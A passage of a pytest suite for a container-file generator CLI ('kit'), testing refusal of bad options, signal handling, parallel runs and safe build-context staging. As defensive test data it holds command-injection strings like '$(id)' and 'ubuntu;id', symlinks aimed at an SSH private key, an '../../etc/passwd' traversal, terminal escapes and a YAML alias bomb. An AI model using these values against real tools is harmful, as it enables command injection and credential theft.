    target.write_bytes(target.read_bytes().replace(b"\n", b"\r\n"))
    run = refused_everywhere(capsys, tree, "generate", repo, "--style", "optimized", expect="--force")
    assert "Traceback" not in run.err
    diff = kit(capsys, "generate", repo, "--style", "optimized", "--diff")
    assert diff.code == 2 and "refused" in diff.err


def test_crlf_gitignore_keeps_its_line_endings(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    repo = tree / "repo"
    (repo / ".gitignore").write_bytes(b"data/\r\n")
    assert kit(capsys, "generate", repo).code == 0
    text = (repo / ".gitignore").read_bytes()
    assert text.startswith(b"data/\r\n") and b"\r\n" in text[8:] and b"\n" not in text.replace(b"\r\n", b"")


def test_diff_exits_2_when_it_reports_a_refusal(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    repo = tree / "repo"
    assert kit(capsys, "generate", repo).code == 0
    (repo / "Dockerfile").write_text((repo / "Dockerfile").read_text() + "# mine\n")
    before = snapshot(tree)
    run = kit(capsys, "generate", repo, "--style", "optimized", "--diff")
    assert run.code == 2 and "refused" in run.err and "Traceback" not in run.err
    assert changed(before, snapshot(tree)) == set()
    data = kit(capsys, "generate", repo, "--style", "optimized", "--diff", "--json")
    assert data.code == 2 and any(c["action"] == "refused" for c in json.loads(data.out)["result"]["changes"])


def test_unknown_file_in_place_is_not_replaced(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    (tree / "repo" / "Dockerfile").write_text("FROM scratch\n")
    refused_everywhere(capsys, tree, "generate", tree / "repo", expect="not written by the kit")


def two_workspaces(tmp_path: Path) -> tuple[Path, Path, Path]:
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    return repo, workspace(repo / "a"), workspace(repo / "b")


def test_second_workspace_never_silently_replaces_the_first(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    repo, a, b = two_workspaces(tmp_path)
    assert kit(capsys, "generate", a).code == 0
    first = {
        p: (repo / p).read_bytes()
        for p in ("a/Dockerfile", ".github/workflows/docker.yaml")
        if (repo / p).exists()
    }
    before = snapshot(tmp_path)
    run = kit(capsys, "generate", b, "--style", "optimized")
    assert run.code in (0, 2) and "Traceback" not in run.err
    if run.code == 2:  # the safety net: same workflow names
        one_line(run, 2, "workspace in a/")
        assert changed(before, snapshot(tmp_path)) == set()
    assert {p: (repo / p).read_bytes() for p in first} == first


def test_second_workspace_takes_over_with_force(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    repo, a, b = two_workspaces(tmp_path)
    assert kit(capsys, "generate", a).code == 0
    assert kit(capsys, "generate", b, "--force").code == 0
    owners = {
        v.get("workspace") for v in json.loads((repo / ".kit-state.json").read_text())["files"].values()
    }
    assert "b/" in owners


def test_state_records_the_writing_workspace(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    repo, a, _ = two_workspaces(tmp_path)
    assert kit(capsys, "generate", a).code == 0
    files = json.loads((repo / ".kit-state.json").read_text())["files"]
    assert files["a/Dockerfile"]["workspace"] == "a/"
    assert all(len(v["sha256"]) == 64 for v in files.values())


# == options (flags) ===========================================================================================

OPTION_CASES: dict[str, list[str]] = {
    "env-newline": ["--env", "gpu\nRUN id"],
    "env-empty-quote": ["--env", "'"],
    "matrix-substitution": ["--matrix", "$(id)"],
    "matrix-unknown": ["--matrix", "nope"],
    "cuda-newline": ["--env", "gpu", "--cuda", "12\nRUN id"],
    "cuda-abc": ["--env", "gpu", "--cuda", "abc"],
    "cuda-older": ["--env", "gpu", "--cuda", "11"],
    "cuda-four-parts": ["--env", "gpu", "--cuda", "12.9.1.2"],
    "cuda-on-cpu": ["--env", "cpu", "--cuda", "12"],
    "image-name-upper": ["--image-name", "GHCR.IO/Owner/Name"],
    "image-name-newline": ["--image-name", "ghcr.io/a/b:tag\n"],
    "image-name-bad-digest": ["--image-name", "ghcr.io/a/b@sha256:abc"],
    "image-name-yaml-quote": ["--image-name", "ghcr.io/a/b' evil: 'x"],
    "base-image-empty": ["--base-image", ""],
    "base-image-as-stage": ["--base-image", "ubuntu:24.04 AS evil"],
    "runtime-image-semicolon": ["--style", "optimized", "--runtime-image", "ubuntu;id"],
    "app-dir-dotdot": ["--app-dir", "../x"],
    "app-dir-absolute": ["--app-dir", "/etc"],
    "app-dir-space": ["--app-dir", "a b"],
    "app-dir-substitution": ["--app-dir", "$(id)"],
    "bootstrap-source-semicolon": ["--bootstrap", "localimage", "--bootstrap-source", "x.sif;id"],
    "bootstrap-without-source": ["--bootstrap", "docker-archive"],
    "style-unknown": ["--style", "fancy"],
    "bootstrap-unknown": ["--bootstrap", "evil"],
    "only-unknown": ["--only", "everything"],
    "flag-unknown": ["--frobnicate"],
}


@pytest.mark.parametrize("case", sorted(OPTION_CASES))
def test_option_values_are_refused(capsys: pytest.CaptureFixture[str], tree: Path, case: str) -> None:
    refused_everywhere(capsys, tree, "generate", tree / "repo", *OPTION_CASES[case])


@pytest.mark.parametrize(
    "case", ["style-unknown", "flag-unknown", "bootstrap-unknown", "env-newline", "app-dir-dotdot"]
)
def test_json_prints_one_object_even_for_usage_errors(
    capsys: pytest.CaptureFixture[str], tree: Path, case: str
) -> None:
    before = snapshot(tree)
    run = kit(capsys, "generate", tree / "repo", "--json", *OPTION_CASES[case])
    one_json(run, 2)
    assert changed(before, snapshot(tree)) == set()


@pytest.mark.parametrize(
    "args",
    [
        ["inspect", "--json"],
        ["generate", "--json"],
        ["check", "--json", "a", "b"],
        ["build", "--json", "--engine", "podman", "."],
    ],
)
def test_json_usage_errors_without_a_workspace(capsys: pytest.CaptureFixture[str], args: list[str]) -> None:
    one_json(kit(capsys, *args), 2)


def test_build_tag_is_checked_before_anything_runs(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    refused_everywhere(capsys, tree, "build", tree / "repo", "--tag", "a b\nRUN id", expect="tag")


# == terminal escapes ==============================================================================================


@pytest.mark.parametrize("field", ["name", "channel"])
def test_terminal_escapes_from_a_manifest_are_never_printed_raw(
    capsys: pytest.CaptureFixture[str], tree: Path, field: str
) -> None:
    evil = "\u001b]0;owned\u0007\u001b[2J\u001b[31mred"
    text = manifest(name=toml_str(evil)) if field == "name" else manifest(channels=toml_str_list(evil))
    (tree / "repo" / "pixi.toml").write_text(text)
    before = snapshot(tree)
    for args in (
        ["inspect", tree / "repo"],
        ["inspect", tree / "repo", "--json"],
        ["generate", tree / "repo"],
    ):
        run = kit(capsys, *args)
        assert run.code in (0, 2) and "Traceback" not in run.err
        assert "\x1b" not in run.out + run.err and "\x07" not in run.out + run.err
    assert changed(before, snapshot(tree)) == set()


def test_terminal_escape_in_a_path_is_not_printed_raw(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    odd = tmp_path / "ws\x1b[2J"
    odd.mkdir()
    run = kit(capsys, "generate", odd)
    one_line(run, 2)
    assert "\x1b" not in run.err


# == signals ==========================================================================================================


def start(*args: object, executable: list[str] | None = None) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [*(executable or [*KIT[:1], "-X", "importtime", *KIT[1:]]), *(str(a) for a in args)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        errors="replace",
        env=ENV,
    )


def wait_for_import(process: subprocess.Popen[str], module: str) -> str:
    """Read -X importtime lines until `module` has loaded: the kit is mid-start-up."""
    assert process.stderr is not None
    seen = []
    for line in process.stderr:
        seen.append(line)
        if line.rstrip().endswith(f" {module}") or line.rstrip().endswith(f"| {module}"):
            return "".join(seen)
    raise AssertionError("the process ended before importing " + module + ":\n" + "".join(seen))


def finish(process: subprocess.Popen[str], timeout: float = 30) -> Run:
    out, err = process.communicate(timeout=timeout)
    err = "".join(line for line in err.splitlines(keepends=True) if not line.startswith("import time:"))
    return Run(process.returncode, out, err)


def signal_when(process: subprocess.Popen[str], reached: Callable[[], object], sig: int) -> Run:
    """Send `sig` once `reached()` returns (the kit is at the moment under test) and collect the
    run; the process never outlives the test, whatever fails."""
    try:
        reached()
        process.send_signal(sig)
        return finish(process)
    finally:
        process.kill()


@pytest.mark.parametrize("sig,code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
@pytest.mark.parametrize("module", ["jinja2", "rattler", "kit.output.render"])
def test_signal_early_in_start_up(tree: Path, sig: int, code: int, module: str) -> None:
    """Ctrl-C (or kill) while the kit is still importing: one line, 130/143, no traceback."""
    process = start("generate", tree / "repo")
    one_line(signal_when(process, lambda: wait_for_import(process, module), sig), code)
    assert temps(tree) == []


def test_ctrl_c_through_the_kit_entry_point(tree: Path) -> None:
    entry = Path(sys.executable).parent / "kit"
    need(entry.exists(), f"{entry} is not installed (./dev setup)")
    process = start("inspect", tree / "repo", executable=[sys.executable, "-X", "importtime", str(entry)])
    one_line(signal_when(process, lambda: wait_for_import(process, "jinja2"), signal.SIGINT), 130)


def hold_lock(folder: Path) -> int:
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    fcntl.flock(fd, fcntl.LOCK_EX)
    return fd


def wait_until_waiting(process: subprocess.Popen[str], folder: Path, timeout: float = 30) -> None:
    """Until the process holds a descriptor on `folder` (it is then at the writer's lock)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        assert process.poll() is None, finish(process)
        try:
            links = [
                os.readlink(f"/proc/{process.pid}/fd/{fd}") for fd in os.listdir(f"/proc/{process.pid}/fd")
            ]
        except OSError:
            links = []
        if str(folder) in links:
            time.sleep(0.2)
            return
        time.sleep(0.05)
    raise AssertionError("the kit never reached the writer's lock")


@pytest.mark.parametrize("sig,code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_signal_while_waiting_to_write(tree: Path, sig: int, code: int) -> None:
    repo = tree / "repo"
    before = snapshot(tree)
    fd = hold_lock(repo)
    try:
        process = start("generate", repo, executable=KIT)
        run = signal_when(process, lambda: wait_until_waiting(process, repo), sig)
    finally:
        os.close(fd)
    one_line(run, code)
    assert changed(before, snapshot(tree)) == set()


def interrupted_script(script: str, repo: Path, sig: int) -> Run:
    """`python -c SCRIPT REPO SIGNAL`: the kit run in a process of its own by a script that patches
    one step to send the process SIGNAL at a chosen moment (a signal lands there every time)."""
    done = subprocess.run(
        [sys.executable, "-c", script, str(repo), str(int(sig))],
        capture_output=True,
        text=True,
        timeout=60,
        env=ENV,
        check=False,
    )
    return Run(done.returncode, done.stdout, done.stderr)


SIGNAL_MID_WRITE = """
import os, signal, sys
import kit.output.write as w
real = w._stage
count = [0]
def stage(*args, **kwargs):
    item = real(*args, **kwargs)
    count[0] += 1
    if count[0] == 3:
        os.kill(os.getpid(), int(sys.argv[2]))
    return item
w._stage = stage
from kit.cli import main
sys.exit(main(["generate", sys.argv[1]]))
"""


@pytest.mark.parametrize("sig,code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_signal_while_staging_leaves_nothing(tree: Path, sig: int, code: int) -> None:
    """SIGINT/SIGTERM with three files staged: the temporary files go, nothing else changes."""
    repo = tree / "repo"
    before = snapshot(tree)
    one_line(interrupted_script(SIGNAL_MID_WRITE, repo, sig), code)
    assert changed(before, snapshot(tree)) == set()


SIGNAL_MID_RENAME = """
import os, signal, sys
real = os.replace
count = [0]
def replace(*args, **kwargs):
    real(*args, **kwargs)
    count[0] += 1
    if count[0] == 2:
        os.kill(os.getpid(), int(sys.argv[2]))
os.replace = replace
from kit.cli import main
sys.exit(main(["generate", sys.argv[1]]))
"""


@pytest.mark.parametrize("sig,code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_signal_while_renaming_waits_for_the_last_rename(
    capsys: pytest.CaptureFixture[str], tree: Path, sig: int, code: int
) -> None:
    """A signal between two renames is held back until every file (and the state) is in place."""
    repo = tree / "repo"
    one_line(interrupted_script(SIGNAL_MID_RENAME, repo, sig), code)
    assert temps(tree) == []
    assert (repo / ".kit-state.json").is_file() and (repo / "apptainer.def").is_file()
    again = kit(capsys, "generate", repo, "--json")
    assert again.code == 0 and {c["action"] for c in json.loads(again.out)["result"]["changes"]} == {
        "unchanged"
    }


KILL_MID_RENAME = SIGNAL_MID_RENAME.replace("int(sys.argv[2])", "signal.SIGKILL")


def test_kill_9_mid_write_then_the_next_run_recovers(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    """kill -9 between renames leaves temporary files; the next run removes them and does not take
    them (or the files already renamed) for the user's edits."""
    repo = tree / "repo"
    assert interrupted_script(KILL_MID_RENAME, repo, signal.SIGKILL).code == -signal.SIGKILL
    assert temps(tree), "the killed run left its temporary files"
    run = kit(capsys, "generate", repo)
    assert run.code == 0 and "refused" not in run.out, run
    assert temps(tree) == []
    assert kit(capsys, "check", repo).code in (0, 1)


def test_stale_temporary_files_are_not_edits(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    repo = tree / "repo"
    assert kit(capsys, "generate", repo).code == 0
    for folder in (repo, repo / ".github" / "workflows", repo / "app"):
        (folder / ".kit-tmp-Dockerfile.0123456789ab").write_text("half written")
    run = kit(capsys, "generate", repo, "--style", "optimized")
    assert run.code == 0 and temps(tree) == [], run
    findings = kit(capsys, "check", repo, "--json")
    assert ".kit-tmp-" not in findings.out


TERM_A_CHILD = """
import sys
from kit.base import interrupts
from kit.engines.process import run_lines
with interrupts.handled():
    try:
        run_lines(["sleep", "600"], on_line=print)
    except interrupts.Terminated:
        print("terminated", flush=True)
        raise
"""


def test_sigterm_ends_child_processes(tmp_path: Path) -> None:
    process = subprocess.Popen(
        [sys.executable, "-c", TERM_A_CHILD],
        stdout=subprocess.PIPE,
        text=True,
        env=ENV,
        start_new_session=True,
    )
    try:
        deadline = time.monotonic() + 30
        children: list[int] = []
        while time.monotonic() < deadline and not children:
            children = [
                int(p) for p in Path(f"/proc/{process.pid}/task/{process.pid}/children").read_text().split()
            ]
            time.sleep(0.05)
        assert children, "the child never started"
        process.send_signal(signal.SIGTERM)
        out, _ = process.communicate(timeout=60)
    finally:
        process.kill()
    assert process.returncode == 143 and "terminated" in out
    for pid in children:
        assert not Path(f"/proc/{pid}").exists() or "Z" in Path(f"/proc/{pid}/stat").read_text().split()[2]


# == concurrency ==========================================================================================================


def assert_race_left_a_sound_state(runs: list[Run], scratch: Path, repo: Path) -> dict[str, Any]:
    """Runs that raced each other: each either wrote or refused in one line (no traceback), at
    least one wrote, no temporary file is left under ``scratch``, and every file the repository's
    state records holds exactly the content recorded. The recorded files, for more checks."""
    import hashlib

    assert all(r.code in (0, 2) and "Traceback" not in r.err for r in runs), runs
    assert any(r.code == 0 for r in runs)
    for r in runs:
        if r.code == 2:
            one_line(r, 2)
    assert temps(scratch) == []
    files: dict[str, Any] = json.loads((repo / ".kit-state.json").read_text())["files"]
    for path, record in files.items():
        assert hashlib.sha256((repo / path).read_bytes()).hexdigest() == record["sha256"], path
    return files


def test_parallel_identical_runs(tree: Path) -> None:
    repo = tree / "repo"
    processes = [start("generate", repo, executable=KIT) for _ in range(4)]
    runs = [finish(p, timeout=120) for p in processes]
    assert all(r.code == 0 for r in runs), runs
    assert_race_left_a_sound_state(runs, tree, repo)


def test_parallel_runs_with_different_options(tree: Path) -> None:
    repo = tree / "repo"
    processes = [
        start("generate", repo, "--style", style, executable=KIT)
        for style in ("lesson", "optimized", "lesson", "optimized")
    ]
    runs = [finish(p, timeout=120) for p in processes]
    assert_race_left_a_sound_state(runs, tree, repo)


def test_a_held_lock_delays_but_does_not_fail(tree: Path) -> None:
    repo = tree / "repo"
    fd = hold_lock(repo)
    release = threading.Timer(1.0, os.close, args=(fd,))
    release.start()
    try:
        run = kit_process("generate", repo, timeout=60)
    finally:
        release.join()
    assert run.code == 0, run


def test_two_workspaces_in_parallel(tmp_path: Path) -> None:
    repo, a, b = two_workspaces(tmp_path)
    runs = [finish(p, timeout=120) for p in [start("generate", ws, executable=KIT) for ws in (a, b)]]
    files = assert_race_left_a_sound_state(runs, tmp_path, repo)
    for name, run in zip("ab", runs, strict=True):
        if run.code == 0:  # else it planned before the other wrote: refused, one line
            assert f"{name}/Dockerfile" in files


# == staging (the build context) =============================================================================


def stage(ws: Path, dest: Path, engine: str = "docker", **options: Any) -> Path:
    from kit import api
    from kit.output import staging

    return staging.stage_build_context(api.prepare(ws, **options), dest, engine)


def test_staging_copies_only_what_dockerignore_admits(tree: Path) -> None:
    repo = tree / "repo"
    (repo / "data").mkdir()
    (repo / "data" / "big.bin").write_bytes(b"0" * 4096)
    (repo / "notes.txt").write_text("private\n")
    (repo / ".env").write_text("TOKEN=x\n")
    (repo / "app" / "main.py").write_text("print('hi')\n")
    before = snapshot(tree)
    context = stage(repo, tree / "ctx")
    staged = set(snapshot(context))
    assert {"pixi.toml", "pixi.lock", "Dockerfile", ".dockerignore", "app/main.py"} <= staged
    assert not {"data", "data/big.bin", "notes.txt", ".env", ".git"} & staged
    assert changed(before, snapshot(tree)) == {"ctx"} | {f"ctx/{p}" for p in staged}


def test_staging_for_apptainer_copies_the_def_sources(tree: Path) -> None:
    repo = tree / "repo"
    (repo / "data").mkdir()
    (repo / "data" / "big.bin").write_bytes(b"0" * 4096)
    staged = set(snapshot(stage(repo, tree / "ctx", "apptainer")))
    assert {"pixi.toml", "pixi.lock", "apptainer.def", "app/torch_detect_GPU.py"} <= staged
    assert "data" not in staged


def test_staging_keeps_links_inside_the_context(tree: Path) -> None:
    repo = tree / "repo"
    (repo / "app" / "lib.py").write_text("X = 1\n")
    (repo / "app" / "alias.py").symlink_to("lib.py")
    context = stage(repo, tree / "ctx")
    assert (context / "app" / "alias.py").is_symlink() and os.readlink(
        context / "app" / "alias.py"
    ) == "lib.py"


@pytest.mark.parametrize(
    "case",
    [
        "absolute-outside",
        "relative-outside",
        "absolute-inside",
        "dangling",
        "loop",
        "folder-outside",
        "probe-dangling",
    ],
)
def test_staging_refuses_links_that_leave_or_break(
    capsys: pytest.CaptureFixture[str], tree: Path, case: str
) -> None:
    """`kit build` stops before any engine runs: exit 2, one line, nothing built or written."""
    app = tree / "repo" / "app"
    link = app / "creds"
    if case == "absolute-outside":
        link.symlink_to(tree / "outside" / "id_ed25519")
    elif case == "relative-outside":
        link.symlink_to("../../outside/id_ed25519")
    elif case == "absolute-inside":
        link.symlink_to(app / "torch_detect_GPU.py")
    elif case == "dangling":
        link.symlink_to("missing.py")
    elif case == "loop":
        link.symlink_to("creds2")
        (app / "creds2").symlink_to("creds")
    elif case == "folder-outside":
        link.symlink_to(tree / "outside")
    else:
        (app / "torch_detect_GPU.py").unlink()
        (app / "torch_detect_GPU.py").symlink_to("../../../kit/probe/torch_detect_GPU.py")
    run = refused_everywhere(capsys, tree, "build", tree / "repo", expect="app/")
    assert "PRIVATE KEY" not in run.err


def test_staging_skips_fifos_and_does_not_hang(tree: Path) -> None:
    os.mkfifo(tree / "repo" / "app" / "pipe")
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sys; from pathlib import Path; "
            "from kit import api, staging; "
            "staging.stage_build_context(api.prepare(Path(sys.argv[1])), Path(sys.argv[2]))",
            str(tree / "repo"),
            str(tree / "ctx"),
        ],
        timeout=60,
        capture_output=True,
        text=True,
        env=ENV,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert not os.path.lexists(tree / "ctx" / "app" / "pipe")


def test_staging_a_very_deep_tree() -> None:
    """1100 nested folders: deeper than Python's recursion limit, copied all the same. In a folder
    of its own, removed with `rm -rf` (pytest's clean-up of tmp_path would recurse and fail)."""
    base = Path(tempfile.mkdtemp(prefix="kit-hostile-deep-"))
    try:
        repo = workspace(base / "repo")
        depth = 1100
        fd = os.open(repo / "app", os.O_RDONLY)
        try:
            for _ in range(depth):  # one level at a time, relative to the last (paths stay short)
                os.mkdir("d", dir_fd=fd)
                new = os.open("d", os.O_RDONLY, dir_fd=fd)
                os.close(fd)
                fd = new
            os.close(os.open("leaf.py", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
        finally:
            os.close(fd)
        context = stage(repo, base / "ctx")
        assert (context / "app" / "/".join(["d"] * depth) / "leaf.py").exists()
    finally:
        subprocess.run(["rm", "-rf", str(base)], check=False)


def test_staging_leaves_temporary_and_state_files_behind(
    capsys: pytest.CaptureFixture[str], tree: Path
) -> None:
    repo = tree / "repo"
    assert kit(capsys, "generate", repo).code == 0
    (repo / "app" / ".kit-tmp-x.py.0123456789ab").write_text("half\n")
    staged = set(snapshot(stage(repo, tree / "ctx")))
    assert not any(".kit-tmp-" in p or p == ".kit-state.json" for p in staged)


@pytest.mark.parametrize("pattern", ["[z-a]", "app/[", "[abc", "!data/[9-0]*"])
def test_bad_glob_class_in_dockerignore(pattern: str) -> None:
    from kit.base.errors import UserError
    from kit.output.staging import dockerignore_matcher

    with pytest.raises(UserError, match="pattern"):
        dockerignore_matcher(f"*\n!pixi.toml\n{pattern}\n")


@pytest.mark.parametrize(
    "pattern,path,excluded",
    [
        ("*", "a", True),
        ("*\n!app/", "app/x.py", False),
        ("**/*.pyc", "app/x/y.pyc", True),
        ("data", "data/x", True),
        ("[a-c]*", "b1", True),
        ("\\*", "*", True),
        ("\\*", "a", False),
        ("[^a]", "b", True),
        ("[^a]", "a", False),
        ("app/\n!app/keep", "app/keep", False),
    ],
)
def test_dockerignore_matches_like_docker(pattern: str, path: str, excluded: bool) -> None:
    from kit.output.staging import dockerignore_matcher

    assert dockerignore_matcher(pattern).matches(path) is excluded


def test_unreadable_folder_in_the_context(shared_tmp: Path, nobody: OtherUser) -> None:
    ws = workspace(shared_tmp / "ws")
    (ws / "app" / "private").mkdir()
    as_nobody(shared_tmp)
    (ws / "app" / "private").chmod(0o000)
    before = snapshot(shared_tmp)
    run = kit_process("build", ws, user=nobody, cwd=shared_tmp)
    one_line(run, 2, "private")
    assert changed(before, snapshot(shared_tmp)) == set()


# == kit check on odd files (no traceback, no hang) =============================================================

CHECK_CASES: dict[str, tuple[str, bytes]] = {
    "dockerignore-bad-class": (".dockerignore", b"*\n!pixi.toml\n[z-a]\n"),
    "dockerignore-unclosed": (".dockerignore", b"*\n!pixi.toml\napp/[\n"),
    "workflow-matrix-from-json": (
        ".github/workflows/docker.yaml",
        b"name: x\non: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n"
        b"    strategy:\n      matrix: ${{ fromJSON(vars.MATRIX) }}\n"
        b"    steps:\n      - run: echo ${{ matrix.env }}\n",
    ),
    "workflow-paths-bad-class": (
        ".github/workflows/docker.yaml",
        b"name: x\non:\n  push:\n    paths: ['[z-a]', 'app/[']\njobs: {}\n",
    ),
    "workflow-a-list": (".github/workflows/docker.yaml", b"- 1\n- 2\n"),
    "workflow-scalar": (".github/workflows/docker.yaml", b"just text\n"),
    "workflow-alias-bomb": (
        ".github/workflows/docker.yaml",
        b"a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
        b"c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
        b"e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]\njobs: [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]\n",
    ),
    "workflow-non-utf-8": (".github/workflows/docker.yaml", b"name: \xff\xfe\n"),
    "workflow-jobs-integer": (".github/workflows/docker.yaml", b"name: x\non: push\njobs: 5\n"),
    "workflow-deep-nesting": (".github/workflows/docker.yaml", b"a: " + b"[" * 5000 + b"]" * 5000 + b"\n"),
    "dockerfile-binary": ("Dockerfile", bytes(range(256))),
    "def-binary": ("apptainer.def", b"\x00\xff" * 100),
    "def-unknown-sections": ("apptainer.def", b"Bootstrap: docker\nFrom: x\n%evil\n%post\n"),
}


@pytest.mark.parametrize("case", sorted(CHECK_CASES))
def test_check_on_odd_files(capsys: pytest.CaptureFixture[str], tree: Path, case: str) -> None:
    repo = tree / "repo"
    assert kit(capsys, "generate", repo).code == 0
    name, body = CHECK_CASES[case]
    (repo / name).write_bytes(body)
    before = snapshot(tree)
    done = kit_process("check", repo, timeout=120)
    assert done.code in (1, 2), done
    assert "Traceback" not in done.out + done.err
    if done.code == 2:
        one_line(done, 2)
    assert changed(before, snapshot(tree)) == set()


@pytest.mark.parametrize("name", ["Dockerfile", ".github/workflows/docker.yaml"])
def test_check_on_a_fifo_does_not_hang(capsys: pytest.CaptureFixture[str], tree: Path, name: str) -> None:
    repo = tree / "repo"
    assert kit(capsys, "generate", repo).code == 0
    (repo / name).unlink()
    os.mkfifo(repo / name)
    done = kit_process("check", repo, timeout=60)
    assert done.code in (1, 2) and "Traceback" not in done.err, done


# == kit lesson sync =====================================================================================================


def lesson_root(tmp_path: Path, *episodes: str) -> Path:
    root = tmp_path / "lesson"
    workspace(root / "examples" / "cuda-exercise", lock=None)
    (root / "episodes").mkdir()
    for number, text in enumerate(episodes, start=1):
        (root / "episodes" / f"0{number}-episode.md").write_text(text)
    return root


GOOD_EPISODE = "# One\n\n<!-- kit-file: cuda-exercise/Dockerfile -->\n```dockerfile\nold\n```\n\nThe end.\n"


@pytest.mark.parametrize(
    "case,text",
    [
        (
            "unclosed-fence",
            "# Two\n\n<!-- kit-file: cuda-exercise/Dockerfile -->\n```dockerfile\nold\n\nThe rest of the episode.\n",
        ),
        ("unclosed-tilde-fence", "<!-- kit-file: cuda-exercise/apptainer.def -->\n~~~\nold\n```\n"),
        ("marker-without-fence", "<!-- kit-file: cuda-exercise/Dockerfile -->\ntext\n"),
        ("marker-at-the-end", "text\n<!-- kit-file: cuda-exercise/Dockerfile -->\n"),
        ("unknown-file", "<!-- kit-file: ../../etc/passwd -->\n```\nx\n```\n"),
        ("bad-regex", '<!-- kit-file: cuda-exercise/Dockerfile from="([" to="x" -->\n```\nx\n```\n'),
        (
            "regex-matches-nothing",
            '<!-- kit-file: cuda-exercise/Dockerfile from="^NOTHING HERE$" to="x" -->\n```\nx\n```\n',
        ),
    ],
)
def test_lesson_sync_refuses_and_changes_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, case: str, text: str
) -> None:
    """The broken episode comes second: the first (fine) one is not written either."""
    root = lesson_root(tmp_path, GOOD_EPISODE, text)
    refused_everywhere(capsys, tmp_path, "lesson", "sync", "--root", root, expect="episodes/02-episode.md")


def test_lesson_sync_on_a_non_utf8_episode(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    root = lesson_root(tmp_path, GOOD_EPISODE)
    (root / "episodes" / "02-episode.md").write_bytes(b"caf\xe9\n")
    refused_everywhere(capsys, tmp_path, "lesson", "sync", "--root", root, expect="02-episode.md")


def test_lesson_sync_on_a_fifo_episode(tmp_path: Path) -> None:
    root = lesson_root(tmp_path, GOOD_EPISODE)
    os.mkfifo(root / "episodes" / "02-episode.md")
    before = snapshot(tmp_path)
    run = kit_process("lesson", "sync", "--root", root, timeout=60)
    one_line(run, 2, "02-episode.md")
    assert changed(before, snapshot(tmp_path)) == set()


def test_lesson_sync_through_a_linked_episode(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    root = lesson_root(tmp_path, GOOD_EPISODE)
    (tmp_path / "elsewhere.md").write_text(GOOD_EPISODE)
    (root / "episodes" / "02-episode.md").symlink_to(tmp_path / "elsewhere.md")
    refused_everywhere(capsys, tmp_path, "lesson", "sync", "--root", root, expect="link")


def test_lesson_sync_refills_a_good_episode(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    root = lesson_root(tmp_path, GOOD_EPISODE)
    run = kit(capsys, "lesson", "sync", "--root", root)
    assert run.code == 0, run
    text = (root / "episodes" / "01-episode.md").read_text()
    assert "FROM " in text and text.endswith("```\n\nThe end.\n") and temps(tmp_path) == []


# == properties: generated manifests and option values =================================================================

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

NASTY = [
    '"',
    "'",
    "\n",
    "\r",
    "\t",
    "$",
    "{",
    "}",
    "(",
    ")",
    "`",
    "\\",
    "#",
    "%",
    ":",
    ";",
    "|",
    "&",
    " ",
    "\x1b",
    "\x00",
    "\u2028",
    "/",
    "..",
    "*",
    "[",
    "]",
    "-",
    ".",
    "=",
    "<",
    ">",
]
nasty_text = st.lists(
    st.one_of(
        st.sampled_from(NASTY),
        st.text(alphabet="abcXYZ019", min_size=1, max_size=4),
        st.characters(codec="utf-8"),
    ),
    max_size=8,
).map("".join)
PROPERTY = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def structure(files: dict[str, str]) -> dict[str, Any]:
    """What a value must never change: every file parses, with the same lines, instructions,
    sections and YAML keys as for a plain value."""
    import yaml

    from kit.model.deffile import parse_def
    from kit.model.dockerfile import instructions as dockerfile_instructions

    shape: dict[str, Any] = {}
    for rel, text in files.items():
        lines = text.count("\n")
        if rel.endswith("Dockerfile"):
            shape[rel] = (lines, [i.keyword for i in dockerfile_instructions(text)])
        elif rel.endswith(".def"):
            stages = parse_def(text).stages
            shape[rel] = (
                lines,
                [sorted(s.header) for s in stages],
                [[(sec.name, sec.argument, len(sec.body)) for sec in s.sections] for s in stages],
            )
        elif rel.endswith((".yaml", ".yml")):
            data = yaml.safe_load(text)
            assert isinstance(data, dict), rel
            jobs = data.get("jobs", {})
            shape[rel] = (
                lines,
                sorted(map(str, data)),
                {j: sorted(v) for j, v in jobs.items()},
                {j: len(v.get("steps", [])) for j, v in jobs.items()},
            )
        else:
            shape[rel] = lines
    return shape


def rendered_under(out: Path) -> dict[str, str]:
    return {
        p.relative_to(out).as_posix(): p.read_text()
        for p in sorted(out.rglob("*"))
        if p.is_file() and p.name != ".kit-state.json" and p.suffix != ".py"
    }


def generate_into(
    capsys: pytest.CaptureFixture[str], text: str, *flags: str
) -> tuple[Run, dict[str, str], set[str]]:
